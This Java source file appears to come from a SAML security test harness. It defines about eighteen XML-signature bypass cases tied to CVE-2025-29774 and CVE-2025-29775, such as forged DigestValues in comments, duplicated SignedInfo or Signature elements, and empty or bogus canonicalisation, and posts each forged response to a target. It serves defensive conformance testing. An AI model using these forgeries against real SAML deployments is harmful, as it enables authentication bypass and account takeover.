package io.vestibule.protocol.saml.attack;

import static io.vestibule.protocol.saml.attack.AttackCase.attack;

import io.vestibule.protocol.saml.toy.Draft;
import io.vestibule.protocol.saml.toy.Seal;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.MessageDigest;
import java.util.Base64;
import java.util.List;
import java.util.function.UnaryOperator;
import java.util.regex.Matcher;

/**
 * Case 9: canonicalisation that yields nothing, and digests that are read otherwise than they were signed (CVE-2025-29774,
 * CVE-2025-29775; Fedotkin, "The Fragile Lock", 2025). Where an attack needs a signature over nothing, the genuine key gives it.
 */
final class Canonical {
    private static final String RELATIVE = " xmlns:r=\"./relative\"";

    private Canonical() {}

    static List<AttackCase> cases() {
        return List.of(
                attack("9-void-digest", "the digest of nothing, over an element with a relative namespace", target -> {
                    return voidDigest(target, RELATIVE);
                }),
                attack("9-void-digest-plain", "the digest of nothing", target -> voidDigest(target, "")),
                attack(
                        "9-void-signed-info",
                        "a signature over nothing, SignedInfo with a relative namespace",
                        target -> {
                            String response = evil(target);
                            String info = Seal.signedInfo(response, target.shape())
                                    .replaceFirst("<ds:SignedInfo", "<ds:SignedInfo" + RELATIVE);
                            return Message.post(Seal.insert(response, withValueOfNothing(info, target)), target);
                        }),
                attack("9-c14n-unknown", "a canonicalisation nobody knows", target -> {
                    return Message.post(
                            Seal.sign(honest(target), target.shape().canonicalization("urn:x:nothing")), target);
                }),
                attack("9-c14n-is-transform", "an XSLT as canonicalisation", target -> {
                    return Message.post(
                            Seal.sign(
                                    honest(target),
                                    target.shape().canonicalization("http://www.w3.org/TR/1999/REC-xslt-19991116")),
                            target);
                }),
                attack("9-c14n-empty", "a canonicalisation without a name", target -> {
                    return Message.post(Seal.sign(honest(target), target.shape().canonicalization("")), target);
                }),
                digest("9-digest-comment", "the forged digest as a comment before the signed one", (forged, signed) -> {
                    return "<!--" + forged + "-->" + signed;
                }),
                digest("9-digest-comment-split", "a comment in the middle of the digest", (forged, signed) -> {
                    return signed.substring(0, 9) + "<!--" + forged + "-->" + signed.substring(9);
                }),
                digest(
                        "9-digest-comment-behind",
                        "the forged digest, the signed one as a comment",
                        (forged, signed) -> {
                            return forged + "<!--" + signed + "-->";
                        }),
                digest("9-digest-twice", "two DigestValues, the forged one first", (forged, signed) -> {
                    return forged + "</ds:DigestValue><ds:DigestValue>" + signed;
                }),
                digest("9-digest-twice-behind", "two DigestValues, the forged one last", (forged, signed) -> {
                    return signed + "</ds:DigestValue><ds:DigestValue>" + forged;
                }),
                digest("9-digest-instruction", "the forged digest in a processing instruction", (forged, signed) -> {
                    return "<?x " + forged + "?>" + signed;
                }),
                resigned("9-digest-twice-signed", "two DigestValues, signed by the genuine key", info -> {
                    return info.replaceFirst(
                            "<ds:DigestValue>", "<ds:DigestValue>AAAA</ds:DigestValue><ds:DigestValue>");
                }),
                attack("9-signed-info-twice", "a forged SignedInfo before the signed one", target -> {
                    String forged = Seal.signedInfo(evil(target), target.shape());
                    return twoInfos(target, (genuine, signature) -> signature.replace(genuine, forged + genuine));
                }),
                attack("9-signed-info-twice-behind", "a forged SignedInfo behind the signed one", target -> {
                    String forged = Seal.signedInfo(evil(target), target.shape());
                    return twoInfos(target, (genuine, signature) -> signature.replace(genuine, genuine + forged));
                }),
                attack("9-value-comment", "a comment in the SignatureValue of a forged message", target -> {
                    String genuine = Seal.signature(honest(target), target.shape());
                    String forged = Seal.signedInfo(evil(target), target.shape());
                    String signature =
                            Seal.over(forged, target.shape().key(target.key().key()));
                    String value = value(genuine, "SignatureValue");
                    return Message.post(
                            Seal.insert(
                                    evil(target),
                                    signature.replace(value(signature, "SignatureValue"), "<!-- -->" + value)),
                            target);
                }),
                attack("9-two-signatures", "the genuine signature and a forged one in one response", target -> {
                    Draft draft = target.draft();
                    String response = draft.response(draft.assertion());
                    String genuine = Seal.signature(response, target.shape());
                    return Message.post(Seal.insert(evil(target), genuine + genuine), target);
                }),
                attack("9-two-signatures-genuine", "the genuine signature twice in the genuine response", target -> {
                    String response = honest(target);
                    String genuine = Seal.signature(response, target.shape());
                    return Message.post(Seal.insert(response, genuine + genuine), target);
                }));
    }

    private interface Pair {
        String of(String forgedOrGenuine, String signed);
    }

    private static String honest(Target target) {
        Draft draft = target.draft();
        return draft.response(draft.assertion());
    }

    private static String evil(Target target) {
        Draft evil = target.evil();
        return evil.response(evil.assertion());
    }

    /** The signature of the honest message, its DigestValue changed as the attacker can, on a forged message of the same ID. */
    private static AttackCase digest(String id, String what, Pair change) {
        return attack(id, what, target -> {
            Draft honest = target.draft();
            Draft evil = target.evil();
            evil.responseId = honest.responseId;
            String response = evil.response(evil.assertion());
            String genuine = Seal.signature(honest.response(honest.assertion()), target.shape());
            String forged = value(Seal.signature(response, target.shape()), "DigestValue");
            String signed = value(genuine, "DigestValue");
            return Message.post(Seal.insert(response, genuine.replace(signed, change.of(forged, signed))), target);
        });
    }

    private static AttackCase resigned(String id, String what, UnaryOperator<String> change) {
        return attack(id, what, target -> {
            String response = honest(target);
            String info = change.apply(Seal.signedInfo(response, target.shape()));
            return Message.post(Seal.insert(response, Seal.over(info, target.shape())), target);
        });
    }

    private static Message twoInfos(Target target, Pair change) {
        Draft honest = target.draft();
        Draft evil = target.evil();
        evil.responseId = honest.responseId;
        String response = honest.response(honest.assertion());
        String info = Seal.signedInfo(response, target.shape());
        String signature = change.of(info, Seal.over(info, target.shape()));
        return Message.post(Seal.insert(evil.response(evil.assertion()), signature), target);
    }

    private static Message voidDigest(Target target, String namespace) {
        String response = evil(target).replaceFirst(" ID=", namespace + " ID=");
        String info = Seal.signedInfo(
                evil(target).replaceFirst("ID=\"[^\"]*\"", "ID=\"" + id(response) + "\""), target.shape());
        String nothing = info.replace(value(info, "DigestValue"), sha256OfNothing());
        return Message.post(Seal.insert(response, Seal.over(nothing, target.shape())), target);
    }

    private static String withValueOfNothing(String info, Target target) {
        String overNothing = Seal.over("", target.shape());
        return overNothing.replaceFirst("<ds:SignatureValue>", Matcher.quoteReplacement(info + "<ds:SignatureValue>"));
    }

    private static String id(String response) {
        return response.replaceFirst("(?s).*? ID=\"([^\"]*)\".*", "$1");
    }

    private static String value(String signature, String name) {
        String start = "<ds:" + name + ">";
        int at = signature.indexOf(start) + start.length();
        return signature.substring(at, signature.indexOf('<', at));
    }

    private static String sha256OfNothing() {
        try {
            byte[] digest = MessageDigest.getInstance("SHA-256").digest("".getBytes(StandardCharsets.UTF_8));
            return Base64.getEncoder().encodeToString(digest);
        } catch (GeneralSecurityException broken) {
            throw new IllegalStateException(broken);
        }
    }
}
